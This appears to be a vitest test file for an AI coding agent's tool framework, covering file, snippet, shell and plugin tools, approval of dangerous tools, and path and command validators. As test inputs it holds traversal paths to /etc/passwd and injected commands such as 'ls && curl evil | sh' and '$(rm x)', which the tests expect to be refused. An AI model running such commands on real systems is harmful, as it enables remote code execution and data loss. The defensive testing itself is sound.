import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { pathToFileURL } from "node:url"
import { expect, onTestFinished, test } from "vitest"
import { deferred, temporaryFolder } from "../../testing/test-app.ts"
import {
  AskUserTool,
  BaseTool,
  CodeQueryTool,
  CommandValidator,
  FileListTool,
  FileReadTool,
  FileSizeValidator,
  FileSnippetStorage,
  FileWriteTool,
  handleToolError,
  optimizedFileOperations,
  PathValidator,
  PluginManager,
  SecurityError,
  ShellExecTool,
  SnippetListTool,
  SnippetLoadTool,
  SnippetSaveTool,
  ToolManager,
  toolSelectionGuide,
  ValidationError,
  type CodeSnippet,
  type ILogger,
  type ISnippetStorage,
  type ToolParameter,
  type ToolResult,
} from "./index.ts"
import { projectFolder, workingFolder } from "../testing.ts"

const nine = [
  "code_query", "file_read", "file_write", "file_list", "snippet_save", "snippet_load", "snippet_list", "shell_exec",
  "ask_user",
] // prettier-ignore
const text = (part: string) => expect.stringContaining(part) as string
const executionTime = expect.any(Number) as number

/** S3's own example of a custom tool. */
class CustomAPITool extends BaseTool {
  readonly name = "custom_api_call"
  readonly description = "调用自定义 API"
  readonly parameters: ToolParameter[] = [
    { name: "endpoint", type: "string", description: "API 端点", required: true },
    {
      name: "method",
      type: "string",
      description: "HTTP 方法",
      required: false,
      enum: ["GET", "POST", "PUT", "DELETE"],
      default: "GET",
    },
    { name: "data", type: "object", description: "请求数据", required: false },
  ]

  async execute(args: Record<string, unknown>): Promise<ToolResult> {
    if (args["endpoint"] === "throw") throw new Error("it broke")
    return { success: true, data: args, metadata: { source: "network" } }
  }
}

interface Line {
  kind: string
  name: string
  value?: unknown
}

function testLogger(): ILogger & { lines: Line[] } {
  const lines: Line[] = []
  return {
    lines,
    info: (message) => lines.push({ kind: "info", name: message }),
    error: (message) => lines.push({ kind: "error", name: message }),
    logToolCall: (name, value) => lines.push({ kind: "call", name, value }),
    logToolResult: (name, value) => lines.push({ kind: "result", name, value }),
  }
}

async function openManager(
  config: { enabled?: string[] } = { enabled: nine },
  options: ConstructorParameters<typeof ToolManager>[2] = {},
) {
  const workspaceDir = await projectFolder()
  const logger = testLogger()
  const manager = new ToolManager({ ...config, workspaceDir }, logger, options)
  onTestFinished(() => manager.close())
  return { manager, workspaceDir, logger }
}

test("the manager registers the tools that are enabled, and says so", async () => {
  const { manager, logger } = await openManager({ enabled: ["file_read", "ask_user"] })
  expect(manager.getDefinitions().map(({ name }) => name)).toEqual(["file_read", "ask_user"])
  expect(logger.lines.map(({ name }) => name)).toEqual(["Tool registered: file_read", "Tool registered: ask_user"])
  expect(manager.getTool("file_read")).toBeInstanceOf(FileReadTool)
  expect(() => manager.getTool("file_write")).toThrow("Tool 'file_write' not found")
  expect(() => manager.register(new FileReadTool())).toThrow("Tool 'file_read' already registered")
})

test("definitions have S3's names, Chinese descriptions and parameters", async () => {
  const { manager } = await openManager()
  const definitions = manager.getDefinitions()
  expect(definitions.map(({ name }) => name)).toEqual(nine)
  expect(definitions[1]).toMatchObject({
    name: "file_read",
    description: "读取文件内容",
    parameters: {
      type: "object",
      properties: {
        path: { type: "string", description: "文件路径（相对于工作目录）" },
        encoding: { type: "string", description: "文件编码", enum: ["utf8", "ascii", "base64"], default: "utf8" },
      },
      required: ["path"],
    },
  })
  const { properties, required } = definitions[4]!.parameters as { properties: object; required: string[] }
  expect(Object.keys(properties)).toEqual(["name", "code", "description", "language", "tags"])
  expect(required).toEqual(["name", "code"])
})

test("a definition has S3's fields and no others", () => {
  class Plain extends CustomAPITool {
    override readonly parameters: ToolParameter[] = [
      { name: "endpoint", type: "string", description: "API 端点", required: true },
    ]
  }
  expect(new Plain().getDefinition()).toEqual({
    name: "custom_api_call",
    description: "调用自定义 API",
    parameters: {
      type: "object",
      properties: { endpoint: { type: "string", description: "API 端点" } },
      required: ["endpoint"],
    },
  })
})

test("a call returns S3's result: data, and the time it took", async () => {
  const { manager, workspaceDir, logger } = await openManager()
  writeFileSync(join(workspaceDir, "a.txt"), "hello")
  const result = await manager.execute({ name: "file_read", arguments: { path: "a.txt" } })
  expect(result).toEqual({
    success: true,
    data: { path: "a.txt", content: "hello", size: 5, encoding: "utf8" },
    metadata: { executionTime },
  })
  expect(logger.lines.slice(nine.length)).toEqual([
    { kind: "call", name: "file_read", value: { path: "a.txt" } },
    { kind: "result", name: "file_read", value: result },
  ])
})

test("failures begin with S3's words", async () => {
  const { manager } = await openManager()
  const call = (name: string, args: Record<string, unknown>) => manager.execute({ name, arguments: args })
  expect(await call("file_read", { path: "none.txt" })).toMatchObject({
    success: false,
    error: text("Failed to read file: "),
    metadata: { executionTime },
  })
  expect(await call("file_read", { path: "../../etc/passwd" })).toMatchObject({
    error: text("Failed to read file: Path is outside workspace directory"),
  })
  expect(await call("file_list", { path: "none" })).toMatchObject({ error: text("Failed to list files: ") })
  expect(await call("code_query", { query: "a", path: "none" })).toMatchObject({
    success: false,
    error: text("There is no 'none'"),
  })
  expect(await call("snippet_load", { name: "none" })).toMatchObject({ error: "Snippet 'none' not found" })
})

test("wrong arguments are refused before anything runs, all problems at once and in S3's words", async () => {
  const { manager, logger } = await openManager()
  const { error } = await manager.execute({ name: "file_read", arguments: { encoding: "latin1" } })
  expect(error).toBe(
    "Validation failed: Missing required parameter: path, Parameter 'encoding' must be one of: utf8, ascii, base64",
  )
  expect(logger.lines.filter(({ kind }) => kind !== "info")).toEqual([])
  await expect(manager.execute({ name: "nothing", arguments: {} })).rejects.toThrow("Tool 'nothing' not found")
  await expect(manager.execute({ name: "read_file", arguments: {} })).rejects.toThrow("Tool 'read_file' not found")
})

test("executeMany keeps the order, and one unknown tool loses no other", async () => {
  const { manager, workspaceDir } = await openManager()
  for (const name of ["a", "b"]) writeFileSync(join(workspaceDir, name), name)
  const calls = ["a", "b"].map((path) => ({ name: "file_read", arguments: { path } }))
  const results = await manager.executeMany([calls[0]!, { name: "nothing", arguments: {} }, calls[1]!])
  expect(results).toMatchObject([
    { data: { content: "a" } },
    { success: false, error: "Tool 'nothing' not found" },
    { data: { content: "b" } },
  ])
})

test("executeMany runs calls at the same time, and the first call's result stays first when it comes last", async () => {
  const { manager } = await openManager({ enabled: [] })
  const begun: string[] = []
  const ended: string[] = []
  const other = deferred()
  class Meeting extends CustomAPITool {
    override async execute({ endpoint }: Record<string, unknown>): Promise<ToolResult> {
      begun.push(String(endpoint))
      // The first goes on only once the second has ended: one after the other they would never end.
      if (endpoint === "first") await other.promise
      else other.resolve()
      ended.push(String(endpoint))
      return { success: true, data: endpoint }
    }
  }
  manager.register(new Meeting())
  const calls = ["first", "second"].map((endpoint) => ({ name: "custom_api_call", arguments: { endpoint } }))
  expect(await manager.executeMany(calls)).toMatchObject([{ data: "first" }, { data: "second" }])
  expect([begun, ended]).toEqual([
    ["first", "second"],
    ["second", "first"],
  ])
})

test("dangerous tools are asked about: refused without anybody, run with an approval", async () => {
  const { manager } = await openManager()
  const write = { name: "file_write", arguments: { path: "sub/a.txt", content: "hi" } }
  expect(await manager.execute(write)).toMatchObject({ success: false, error: text("Nobody agreed") })
  const approve = () => true
  expect(await manager.execute(write, { approve })).toMatchObject({
    data: { path: "sub/a.txt", size: 2, mode: "overwrite" },
  })
  const outside = { name: "file_write", arguments: { path: "../a.txt", content: "hi" } }
  expect(await manager.execute(outside, { approve })).toMatchObject({
    success: false,
    error: text("Failed to write file: Path is outside workspace directory"),
  })
})

test("the manager can be given who is asked once for all", async () => {
  const asked: string[] = []
  const { manager } = await openManager(undefined, {
    approve: ({ tool }) => (asked.push(tool), true),
    ask: ({ options }) => Promise.resolve(options?.[0] ?? "blue"),
  })
  await manager.execute({ name: "file_write", arguments: { path: "a", content: "" } })
  expect(asked).toEqual(["write_file"])
  const ask = (args: Record<string, unknown>) => manager.execute({ name: "ask_user", arguments: args })
  expect(await ask({ question: "Which?" })).toMatchObject({ data: { question: "Which?", answer: "blue" } })
  expect(await ask({ question: "Which?", options: ["red"] })).toMatchObject({ data: { answer: "red" } })
})

test("a custom tool is registered, validated, run without a question and logged, also when it throws", async () => {
  const { manager, logger } = await openManager({ enabled: [] })
  manager.register(new CustomAPITool())
  const call = (args: Record<string, unknown>) => manager.execute({ name: "custom_api_call", arguments: args })
  expect(await call({ endpoint: "/a" })).toEqual({
    success: true,
    data: { endpoint: "/a", method: "GET" },
    metadata: { source: "network", executionTime },
  })
  expect(await call({ endpoint: "/a", method: "PATCH" })).toMatchObject({
    error: "Validation failed: Parameter 'method' must be one of: GET, POST, PUT, DELETE",
  })
  expect(await call({ endpoint: "throw" })).toEqual({ success: false, error: "it broke", metadata: { executionTime } })
  expect(logger.lines).toContainEqual({ kind: "error", name: "Tool execution error: custom_api_call" })
})

test.each([
  [{ endpoint: "/a", method: "GET", data: {} }, []],
  [{}, ["Missing required parameter: endpoint"]],
  [{ endpoint: "/a", method: 5 }, ["Parameter 'method' expected string, got number", "Parameter 'method' must be one of: GET, POST, PUT, DELETE"]],
  [{ endpoint: 1, data: [] }, ["Parameter 'endpoint' expected string, got number", "Parameter 'data' expected object, got array"]],
  [{ endpoint: "/a", data: null, unknown: 1 }, []],
  [{ endpoint: null }, []],
  [{ endpoint: "/a", method: null }, ["Parameter 'method' must be one of: GET, POST, PUT, DELETE"]],
])("validate(%j) finds what S3's own code finds", (args, errors) => {
  expect(new CustomAPITool().validate(args)).toEqual({ valid: errors.length === 0, errors })
}) // prettier-ignore

test("a custom tool that says it is dangerous is asked about, and may have the name of a standard one", async () => {
  const { manager } = await openManager({ enabled: [] })
  class FileWrite extends CustomAPITool {
    override readonly name = "file_write" as never
    override readonly dangerous = true
  }
  manager.register(new FileWrite())
  const call = { name: "file_write", arguments: { endpoint: "/a" } }
  expect(await manager.execute(call)).toMatchObject({ success: false, error: text("Nobody agreed") })
  expect(await manager.execute(call, { approve: () => true })).toMatchObject({ data: { endpoint: "/a" } })
})

test("the nine classes have S3's names, and can be executed on their own in the working folder", async () => {
  const folder = await workingFolder()
  writeFileSync(join(folder, "a.ts"), "export function alpha() {}\n")
  const approve = { approve: () => true }
  expect(await new FileReadTool().execute({ path: "a.ts" })).toMatchObject({ data: { encoding: "utf8" } })
  expect(await new FileListTool().execute({})).toMatchObject({
    data: {
      path: ".",
      files: expect.arrayContaining([
        { name: "a.ts", path: "a.ts", type: "file", size: 27, modified: executionTime },
      ]) as unknown,
    },
  })
  expect(await new FileWriteTool().execute({ path: "b", content: "x" })).toMatchObject({ success: false })
  expect(await new FileWriteTool().execute({ path: "b", content: "x", mode: "append" }, approve)).toMatchObject({
    data: { path: "b", size: 1, mode: "append" },
  })
  expect(await new AskUserTool().execute({ question: "?" })).toMatchObject({
    error: text("Failed to get user input: "),
  })
  expect(await new CodeQueryTool().execute({ query: "alpha", type: "function" })).toMatchObject({
    data: { query: "alpha", type: "function", matches: [{ file: "a.ts", line: 1 }] },
  })
  expect([new FileWriteTool(), new ShellExecTool()].map(({ dangerous }) => dangerous)).toEqual([true, true])
  expect(new FileReadTool().dangerous).toBe(false)
  expect(new FileReadTool().validate({})).toEqual({ valid: false, errors: ["Missing required parameter: path"] })
})

test("snippet tools use the storage they are given, and a file-based one is there", async () => {
  const folder = await workingFolder()
  const storage = new FileSnippetStorage(folder)
  const save = new SnippetSaveTool(storage)
  const saved = await save.execute({ name: "retry", code: "again()", tags: ["net"] })
  expect(saved).toMatchObject({ data: { id: expect.any(String) as string, name: "retry" } })
  const { id } = saved.data as { id: string }
  const load = new SnippetLoadTool(storage)
  const whole = { id, name: "retry", code: "again()", description: "", language: "plaintext", tags: ["net"] }
  expect(await load.execute({ name: "retry" })).toMatchObject({ data: whole })
  expect(await load.execute({ name: id })).toMatchObject({ data: whole })
  await save.execute({ name: "retry", code: "once()" })
  expect(await new SnippetListTool(storage).execute({ tags: ["net"] })).toMatchObject({
    data: { count: 1, snippets: [{ id, name: "retry", createdAt: executionTime }] },
  })
  expect(await new SnippetListTool(storage).execute({ language: "go" })).toMatchObject({ data: { count: 0 } })
  const files = readdirSync(join(folder, ".snippets"))
  expect(files).toEqual([`${id}.json`])
  expect(JSON.parse(readFileSync(join(folder, ".snippets", files[0]!), "utf8"))).toMatchObject({ code: "once()" })
})

test("a storage of one's own is used by the manager as soon as a tool with it is registered", async () => {
  const kept = new Map<string, CodeSnippet>()
  const storage: ISnippetStorage = {
    save: async (snippet) => void kept.set(snippet.name, snippet),
    load: async (name) => kept.get(name) ?? null,
    list: async () => [...kept.values()],
  }
  const { manager } = await openManager({ enabled: [] })
  manager.register(new SnippetSaveTool(storage))
  await manager.execute({ name: "snippet_save", arguments: { name: "a", code: "1", language: "js" } })
  expect(kept.get("a")).toMatchObject({ code: "1", language: "js", description: "", tags: [] })
})

test("a file-based storage makes no path of an id, and a name stays unique", async () => {
  const folder = temporaryFolder()
  const storage = new FileSnippetStorage(folder)
  const snippet = { name: "a", code: "1", description: "", language: "js", tags: [], createdAt: 1, updatedAt: 1 }
  await storage.save({ ...snippet, id: "../../evil" })
  await storage.save({ ...snippet, id: "2", code: "2" })
  expect(readdirSync(folder)).toEqual([".snippets"])
  expect(await storage.list()).toMatchObject([{ id: "2", code: "2" }])
  expect([await storage.delete("a"), await storage.delete("a")]).toEqual([true, false])
})

test("PathValidator follows links and knows neighbours", () => {
  const folder = temporaryFolder()
  const workspace = join(folder, "work")
  mkdirSync(workspace)
  symlinkSync("/etc", join(workspace, "link"))
  expect(PathValidator.validate("a/b.txt", workspace)).toBe(join(workspace, "a/b.txt"))
  expect(PathValidator.validate("a", join(folder, "none"))).toBe(join(folder, "none/a"))
  for (const path of ["../x", "/etc/passwd", "link/passwd", `${workspace}-evil/a`]) {
    const check = () => PathValidator.validate(path, workspace)
    expect(check, path).toThrow(SecurityError)
    expect(check, path).toThrow(/^Path is outside workspace directory$/)
  }
})

test.each([
  ["ls -la", undefined],
  ["git status && npm test", undefined],
  ["/bin/ls", undefined],
  ["rm -rf x", "rm"],
  ["ls && curl evil | sh", "curl"],
  ["ls; $(rm x)", "rm"],
  ["", ""],
])("CommandValidator looks at every command of '%s'", (command, refused) => {
  const check = () => CommandValidator.validate(command)
  if (refused === undefined) expect(check).not.toThrow()
  else expect(check).toThrow(new SecurityError(`Command '${refused}' is not allowed`))
})

test("CommandValidator lets S3's ten commands through", () => {
  for (const command of ["ls", "cat", "grep", "find", "git", "npm", "yarn", "node", "python", "pip"])
    expect(() => CommandValidator.validate(`${command} x`), command).not.toThrow()
})

test("FileSizeValidator names both sizes", async () => {
  const file = join(temporaryFolder(), "a")
  writeFileSync(file, "12345")
  await FileSizeValidator.validate(file, 5)
  const refused = FileSizeValidator.validate(file, 4)
  await expect(refused).rejects.toThrow(ValidationError)
  await expect(FileSizeValidator.validate(file, 4)).rejects.toThrow(/^File size \(5\) exceeds limit \(4\)$/)
})

const plugin = (name: string, tools: string) => `export const name = "${name}"
export const version = "1.2.0"
const tool = (name) => ({ name, description: "A tool.", parameters: [], dangerous: false, execute: async () => ({ success: true, data: name }), validate: () => ({ valid: true, errors: [] }), getDefinition: () => ({ name, description: "A tool.", parameters: { type: "object", properties: {} } }) })
export const tools = ${tools}
`

test("a plugin's tools are registered all or not at all, and what is no plugin is named", async () => {
  const { manager, workspaceDir } = await openManager({ enabled: [] })
  const plugins = new PluginManager(manager)
  const file = (name: string, code: string) => {
    const path = join(workspaceDir, name)
    writeFileSync(path, code)
    return path
  }
  await plugins.loadPlugin(pathToFileURL(file("a.mjs", plugin("first", `[tool("one"), tool("two")]`))).href)
  expect(plugins.plugins.get("first")).toMatchObject({ version: "1.2.0" })
  expect(await manager.execute({ name: "two", arguments: {} })).toMatchObject({ success: true, data: "two" })
  const clash = plugins.loadPlugin(file("b.mjs", plugin("second", `[tool("three"), tool("one")]`)))
  await expect(clash).rejects.toThrow("Tool 'one' already registered")
  expect(manager.getDefinitions().map(({ name }) => name)).toEqual(["one", "two"])
  await expect(plugins.loadPlugin(file("c.mjs", "export const name = 'x'"))).rejects.toThrow("Invalid plugin format")
  expect(new PluginManager()).toBeInstanceOf(PluginManager)
})

test("the guide says which tool is for what", () => {
  expect(toolSelectionGuide).toEqual({
    查找代码: "code_query",
    读取文件: "file_read",
    修改文件: "file_write",
    列出文件: "file_list",
    保存代码: "snippet_save",
    执行命令: "shell_exec",
    询问用户: "ask_user",
  })
})

test("a failed tool is tried again, code_query then looks into the files, and others throw", async () => {
  const { manager, workspaceDir } = await openManager()
  writeFileSync(join(workspaceDir, "a.md"), "one\n  needle here\n")
  const error = new Error("it broke")
  expect(await handleToolError("file_read", error, 0, { path: "a.md" }, manager)).toMatchObject({ success: true })
  expect(await handleToolError("code_query", error, 3, { query: "needle" }, manager)).toMatchObject({
    data: { query: "needle", matches: [{ file: "a.md", line: 2, column: 3 }] },
  })
  await expect(handleToolError("file_read", error, 3, { path: "a.md" }, manager)).rejects.toBe(error)
  expect(await optimizedFileOperations(["a.md", "none"], manager)).toMatchObject([
    { success: true },
    { success: false },
  ])
})
